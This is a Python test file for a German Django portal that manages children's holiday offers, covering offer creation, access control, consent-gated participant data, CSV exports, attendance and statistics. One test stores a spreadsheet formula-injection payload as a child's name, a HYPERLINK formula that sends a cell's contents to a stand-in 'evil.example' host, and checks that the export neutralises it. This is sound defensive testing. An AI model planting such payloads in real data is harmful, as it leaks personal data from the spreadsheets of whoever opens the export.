"""Providers (members of the offering Akteur) and coordinators: offers, occasions,
participants, attendance, copying, the admin, statistics."""

import csv
import io

import pytest
from django.urls import reverse
from django.utils import timezone

from termine.ferien import services as ferien
from termine.models import Anmeldung, Durchfuehrung, Ferienangebot, Kind, Termin
from tests.factories import (
    FerienangebotFactory,
    FerienzeitraumFactory,
    KindFactory,
    UserFactory,
    ferien_durchfuehrung,
    geburtsdatum_fuer,
)

pytestmark = pytest.mark.django_db


@pytest.fixture
def angebot_a(zeitraum, akteur_a):
    return FerienangebotFactory(zeitraum=zeitraum, akteur=akteur_a, titel="Heimatkunde")


@pytest.fixture
def belegte_durchfuehrung(angebot_a):
    """Two confirmed children (one with shared notes, one without consent), one waiting."""
    d = ferien_durchfuehrung(angebot_a, plaetze=2)
    geburtstag = geburtsdatum_fuer(9, d.erster_tag)
    mit = KindFactory(
        vorname="Hanna",
        nachname="Hinweis",
        geburtsdatum=geburtstag,
        hinweise="Bienenallergie, Notfallset im Rucksack",
        hinweise_einwilligung_am=timezone.now(),
        notfall_telefon="0151 111",
    )
    ohne = KindFactory(
        vorname="Otto", nachname="Ohne", geburtsdatum=geburtstag, hinweise="nicht geteilt"
    )
    wartend = KindFactory(vorname="Wanda", nachname="Warte", geburtsdatum=geburtstag)
    for kind in [mit, ohne, wartend]:
        ferien.anmelden(kind=kind, durchfuehrung=d, von=kind.eltern)
    return d


def test_angebot_anlegen_termin_hinzufuegen_einreichen(
    client_fuer, zeitraum, mitglied_a, akteur_a, mailoutbox, settings
):
    from netzwerk.models import Netzwerkprofil

    Netzwerkprofil.objects.create(name="Netz", ort="Ort", kontakt_email="koord@example.org")
    client = client_fuer(mitglied_a)
    seite = client.get(reverse("ferien:angebot_neu")).content.decode()
    assert akteur_a.name in seite
    daten = {
        "akteur": akteur_a.pk,
        "zeitraum": zeitraum.pk,
        "titel": "Kräuterwanderung",
        "beschreibung": "Wir sammeln Kräuter.",
        "kategorie": "natur",
        "alter_von": 6,
        "alter_bis": 4,
        "kosten": "0",
        "ort": "Am Wald",
        "anmeldung_noetig": "on",
    }
    antwort = client.post(reverse("ferien:angebot_neu"), daten)
    assert "Das Höchstalter liegt unter dem Mindestalter" in antwort.content.decode()
    assert 'value="Kräuterwanderung"' in antwort.content.decode()
    daten["alter_bis"] = 10
    antwort = client.post(reverse("ferien:angebot_neu"), daten)
    angebot = Ferienangebot.objects.get(titel="Kräuterwanderung")
    assert angebot.status == "entwurf" and angebot.erstellt_von == mitglied_a
    # Submitting without a date is refused with a hint.
    antwort = client.post(reverse("ferien:angebot_einreichen", args=[angebot.pk]), follow=True)
    assert "mindestens einen Termin" in antwort.content.decode()
    url = reverse("ferien:durchfuehrung_neu", args=[angebot.pk])
    ausserhalb = {"datum": "2001-01-01", "beginn": "10:00", "ende": "12:00", "max_plaetze": 8}
    antwort = client.post(url, ausserhalb)
    assert "Bitte wähl einen Tag zwischen" in antwort.content.decode()
    tag = zeitraum.beginn.isoformat()
    antwort = client.post(url, {**ausserhalb, "datum": tag, "ende": "09:00"})
    assert "Das Ende muss nach dem Beginn liegen." in antwort.content.decode()
    client.post(url, {**ausserhalb, "datum": tag})
    d = Durchfuehrung.objects.get(angebot=angebot)
    assert d.max_plaetze == 8
    assert d.termin.kategorie == Termin.Kategorie.KINDER_JUGEND
    assert d.termin.sichtbarkeit == Termin.Sichtbarkeit.NETZWERK
    assert list(d.termin.veranstalter.all()) == [akteur_a]
    assert timezone.localtime(d.termin.start).hour == 10
    client.post(reverse("ferien:angebot_einreichen", args=[angebot.pk]))
    angebot.refresh_from_db()
    assert angebot.status == "eingereicht"
    assert mailoutbox[-1].to == ["koord@example.org"]
    assert "Kräuterwanderung" in mailoutbox[-1].subject


def test_fremde_angebote_sind_404(client_fuer, angebot_a, mitglied_b, belegte_durchfuehrung):
    client = client_fuer(mitglied_b)
    d = belegte_durchfuehrung
    for url in [
        reverse("ferien:angebot_bearbeiten", args=[angebot_a.pk]),
        reverse("ferien:durchfuehrung_bearbeiten", args=[d.pk]),
        reverse("ferien:teilnehmende", args=[d.pk]),
        reverse("ferien:teilnehmende_csv", args=[d.pk]),
        reverse("ferien:durchfuehrung_absagen", args=[d.pk]),
        reverse("ferien:angebot_kopieren", args=[angebot_a.pk]),
    ]:
        assert client.get(url).status_code == 404, url
    assert "Heimatkunde" not in client.get(reverse("ferien:anbieter")).content.decode()


def test_bewohner_ohne_akteur_kann_nichts_anbieten(client_fuer, bewohner):
    assert client_fuer(bewohner).get(reverse("ferien:angebot_neu")).status_code == 404


def test_teilnehmendenliste_zeigt_nur_was_noetig_ist(
    client_fuer, mitglied_a, belegte_durchfuehrung
):
    inhalt = (
        client_fuer(mitglied_a)
        .get(reverse("ferien:teilnehmende", args=[belegte_durchfuehrung.pk]))
        .content.decode()
    )
    assert "Hinweis, Hanna" in inhalt and "Ohne, Otto" in inhalt and "Warte, Wanda" in inhalt
    assert "Bienenallergie" in inhalt  # consent given
    assert "nicht geteilt" not in inhalt  # no consent
    assert "0151 111" in inhalt
    geburtsdatum = Kind.objects.get(vorname="Hanna").geburtsdatum
    assert geburtsdatum.strftime("%d.%m.%Y") not in inhalt
    assert ">9<" in inhalt  # the age instead


def test_teilnehmende_als_csv(client_fuer, mitglied_a, belegte_durchfuehrung):
    antwort = client_fuer(mitglied_a).get(
        reverse("ferien:teilnehmende_csv", args=[belegte_durchfuehrung.pk])
    )
    zeilen = list(csv.reader(io.StringIO(antwort.content.decode("utf-8-sig")), delimiter=";"))
    assert zeilen[0][:3] == ["Status", "Warteliste", "Vorname"]
    assert [z[2] for z in zeilen[1:]] == ["Hanna", "Otto", "Wanda"]
    assert zeilen[1][6].startswith("Bienenallergie")
    assert zeilen[2][6] == ""


def test_teilnehmende_csv_fuehrt_keine_formeln_aus(client_fuer, mitglied_a, belegte_durchfuehrung):
    """Names a parent typed reach the provider's spreadsheet as text, never as a formula."""
    boese = '=HYPERLINK("http://evil.example/?d="&F2;"Details")'
    kind = KindFactory(
        vorname=boese,
        nachname="-Müller",
        geburtsdatum=geburtsdatum_fuer(9, belegte_durchfuehrung.erster_tag),
        hinweise="@SUMME(1;2)",
        hinweise_einwilligung_am=timezone.now(),
        notfall_telefon="+49 171 2345",
    )
    ferien.anmelden(kind=kind, durchfuehrung=belegte_durchfuehrung, von=kind.eltern)
    antwort = client_fuer(mitglied_a).get(
        reverse("ferien:teilnehmende_csv", args=[belegte_durchfuehrung.pk])
    )
    zeilen = list(csv.reader(io.StringIO(antwort.content.decode("utf-8-sig")), delimiter=";"))
    zeile = next(z for z in zeilen if "HYPERLINK" in z[2])
    assert zeile[2:4] == ["'" + boese, "'-Müller"]
    assert zeile[5:7] == ["'+49 171 2345", "'@SUMME(1;2)"]
    assert zeile[4] == "9"  # the age, a number the portal computed, stays a number
    assert not any(z.startswith(("=", "+", "-", "@", "\t", "\r")) for r in zeilen for z in r)


def test_anwesenheit(client_fuer, mitglied_a, belegte_durchfuehrung):
    hanna = Anmeldung.objects.get(kind__vorname="Hanna")
    client_fuer(mitglied_a).post(
        reverse("ferien:anwesenheit", args=[belegte_durchfuehrung.pk]),
        {"anwesend": [hanna.pk]},
    )
    assert dict(Anmeldung.objects.bestaetigt().values_list("kind__vorname", "anwesend")) == {
        "Hanna": True,
        "Otto": False,
    }


def test_absagen_ueber_die_seite(client_fuer, mitglied_a, belegte_durchfuehrung, mailoutbox):
    mailoutbox.clear()
    url = reverse("ferien:durchfuehrung_absagen", args=[belegte_durchfuehrung.pk])
    antwort = client_fuer(mitglied_a).post(url, {"grund": ""})
    assert "Bitte sag den Familien, warum." in antwort.content.decode()
    client_fuer(mitglied_a).post(url, {"grund": "Krankheit"})
    assert len(mailoutbox) == 3


def test_kopieren_in_neue_ferien(client_fuer, mitglied_a, angebot_a):
    d = ferien_durchfuehrung(angebot_a, tag=3, von=14, bis=16)
    alt = angebot_a.zeitraum
    neu = FerienzeitraumFactory(
        name="Sommerferien 2032",
        beginn=alt.beginn.replace(year=alt.beginn.year + 1),
        ende=alt.ende.replace(year=alt.ende.year + 1),
    )
    client_fuer(mitglied_a).post(
        reverse("ferien:angebot_kopieren", args=[angebot_a.pk]), {"zeitraum": neu.pk}
    )
    kopie = Ferienangebot.objects.get(zeitraum=neu)
    assert kopie.kopiert_von == angebot_a and kopie.status == "entwurf"
    kopie_d = kopie.durchfuehrungen.get()
    alt_start = timezone.localtime(d.termin.start)
    neu_start = timezone.localtime(kopie_d.termin.start)
    assert neu_start.weekday() == alt_start.weekday()
    assert neu_start.time() == alt_start.time()
    assert abs((neu_start.date() - neu.beginn).days - 3) <= 3


def test_anbieterliste_hat_konstante_abfragen(
    client_fuer, mitglied_a, akteur_a, zeitraum, django_assert_num_queries
):
    client = client_fuer(mitglied_a)
    for anzahl in (1, 25):
        while Ferienangebot.objects.count() < anzahl:
            a = FerienangebotFactory(zeitraum=zeitraum, akteur=akteur_a)
            ferien_durchfuehrung(a)
        # session, user, MFA check, offers count, offers page, "may offer" check
        with django_assert_num_queries(6):
            client.get(reverse("ferien:anbieter"))


# ------------------------------------------------------------------------- coordinators


def test_admin_veroeffentlicht_und_macht_termine_oeffentlich(client_fuer, koordination, zeitraum):
    angebot = FerienangebotFactory(zeitraum=zeitraum, status="eingereicht")
    d = ferien_durchfuehrung(angebot)
    Termin.objects.filter(pk=d.termin_id).update(sichtbarkeit="netzwerk")
    client = client_fuer(koordination)
    liste = client.get(reverse("admin:termine_ferienangebot_changelist"))
    assert angebot.titel in liste.content.decode()
    client.post(
        reverse("admin:termine_ferienangebot_changelist"),
        {"action": "veroeffentlichen", "_selected_action": [angebot.pk]},
    )
    angebot.refresh_from_db()
    d.termin.refresh_from_db()
    assert angebot.status == "veroeffentlicht"
    assert d.termin.sichtbarkeit == "oeffentlich"


def test_admin_seiten_laden(client_fuer, koordination, belegte_durchfuehrung):
    client = client_fuer(koordination)
    for name in ["ferienzeitraum", "ferienangebot", "durchfuehrung", "kind", "anmeldung"]:
        antwort = client.get(reverse(f"admin:termine_{name}_changelist"))
        assert antwort.status_code == 200, name
    antwort = client.get(reverse("admin:termine_ferienzeitraum_add"))
    assert antwort.status_code == 200


def test_koordination_meldet_fuer_familie_an(client_fuer, koordination, angebot_a, mailoutbox):
    d = ferien_durchfuehrung(angebot_a, plaetze=1)
    url = reverse("admin:termine_anmeldung_fuer_familie")
    client = client_fuer(koordination)
    assert d.angebot.titel in client.get(url).content.decode()
    antwort = client.post(url, {"durchfuehrung": d.pk, "notfall_telefon": "039483 1"})
    assert "Für ein neues Kind brauchen wir das." in antwort.content.decode()
    client.post(
        url,
        {
            "durchfuehrung": d.pk,
            "vorname": "Paula",
            "nachname": "Papier",
            "geburtsdatum": geburtsdatum_fuer(8, d.erster_tag).isoformat(),
            "sorgeberechtigt_name": "Petra Papier",
            "sorgeberechtigt_email": "papier@example.org",
            "notfall_telefon": "039483 1",
            "bestaetigt": "on",
        },
    )
    anmeldung = Anmeldung.objects.get()
    assert anmeldung.kind.eltern is None
    assert anmeldung.angemeldet_von == koordination
    assert anmeldung.status == "bestaetigt"
    assert anmeldung.kind.einwilligungen.get().art == "sorgeberechtigt"
    assert mailoutbox[-1].to == ["papier@example.org"]


def test_statistik_nur_fuer_koordination(
    client_fuer, koordination, mitglied_a, zeitraum, belegte_durchfuehrung
):
    url = reverse("ferien:statistik", args=[zeitraum.slug])
    assert client_fuer(mitglied_a).get(url).status_code == 403
    inhalt = client_fuer(koordination).get(url).content.decode()
    assert "1 Angebot, 1 Termin, 2 Plätze, 2 bestätigt, 1 auf Wartelisten." in inhalt
    assert "Auslastung: 100 %." in inhalt
    antwort = client_fuer(koordination).get(reverse("ferien:statistik_csv", args=[zeitraum.slug]))
    zeilen = list(csv.reader(io.StringIO(antwort.content.decode("utf-8-sig")), delimiter=";"))
    anbieter = [z for z in zeilen if z[0] == "Anbieter"]
    assert anbieter == [["Anbieter", "Heimatverein Ballenstedt", "1", "1", "2", "2", "1", "100"]]
    alter_9 = [z for z in zeilen if z[0] == "Alter" and z[1] == "9"]
    assert alter_9[0][5:7] == ["2", "1"]


def test_fremde_personen_sehen_keine_teilnehmenden(client_fuer, belegte_durchfuehrung):
    antwort = client_fuer(UserFactory()).get(
        reverse("ferien:teilnehmende", args=[belegte_durchfuehrung.pk])
    )
    assert antwort.status_code == 404


def test_terminformular_heisst_termin(client_fuer, mitglied_a, angebot_a):
    """The page of one occasion is titled "Termin" (singular), like its heading."""
    d = ferien_durchfuehrung(angebot_a)
    client = client_fuer(mitglied_a)
    html = client.get(reverse("ferien:durchfuehrung_bearbeiten", args=[d.pk])).content.decode()
    assert "<title>Termin: Heimatkunde" in html
    assert "<h1>Termin ändern</h1>" in html
